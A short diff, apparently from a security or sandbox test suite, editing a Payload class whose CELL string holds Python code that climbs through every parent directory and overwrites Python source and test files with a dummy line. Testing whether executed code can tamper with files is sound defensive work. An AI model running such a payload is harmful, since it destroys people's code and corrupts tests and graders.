@@ -139,7 +139,7 @@ class Payload:
 CELL = """
 import pathlib, sys
 for folder in (pathlib.Path.cwd(), *pathlib.Path.cwd().parents):
-    for path in list(folder.glob("**/*.py"))[:50]:
+    for path in (*folder.glob("*.py"), *folder.glob("tests/*.py")):
         try:
             path.write_text("name = '1a'")
         except OSError:
